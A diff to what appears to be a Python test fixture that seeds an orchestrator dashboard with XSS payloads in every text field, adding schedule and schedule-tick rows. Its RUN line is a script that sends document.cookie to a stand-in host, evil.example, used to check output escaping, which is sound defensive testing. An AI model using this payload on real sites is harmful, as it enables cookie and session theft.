@@ -4,9 +4,11 @@ from collections.abc import Sequence
 from datetime import datetime
 from typing import Any
 
-from orchestrator.db.models import AlertRow, AuditRow, Base, DeadLetterRow
+from orchestrator.cron import Crontab
+from orchestrator.db.models import AlertRow, AuditRow, Base, DeadLetterRow, ScheduleTickRow
 from orchestrator.task import TaskState
 from tests.dashboard.seed import Morning
+from tests.dashboard.timetable import schedule
 
 RUN = "window.pwned=1;fetch('//evil.example/'+document.cookie)"
 # Ways out of what a value may stand in: text, attributes, elements whose text ends at their tag.
@@ -57,7 +59,7 @@ PAYLOADS: Sequence[str] = [out + vector for vector in VECTORS for out in OUT_OF]
 
 
 def rows(now: datetime) -> list[Base]:
-    """An alert and a task for each payload, with it in every text; one of each has all of them."""
+    """One of each kind for each payload, with it in every text; an alert and a task have all."""
     of = Morning(now)
     for payload in PAYLOADS:
         of.rows.append(_alert(of, payload, {payload: payload, "list": [payload]}))
@@ -102,5 +104,16 @@ def _others(of: Morning, payload: str) -> None:
             id=of.id(of.now), at=of.now, action=payload, actor=payload, object_type=payload,
             object_id=payload, before={payload: payload}, after={"a": payload},
             detail={"b": [payload]}, producer=payload,
+        )
+    )  # fmt: skip
+    row = schedule(
+        payload, Crontab(expression="0 0 1 1 *", name=payload, input={payload: payload}), of.now,
+        id=of.id(of.now),
+    )  # fmt: skip
+    of.rows.append(row)
+    of.rows.append(
+        ScheduleTickRow(
+            schedule_id=row.id, fire_at=of.now, revision=1, outcome="missed", reason=payload,
+            decided_by=payload,
         )
     )  # fmt: skip
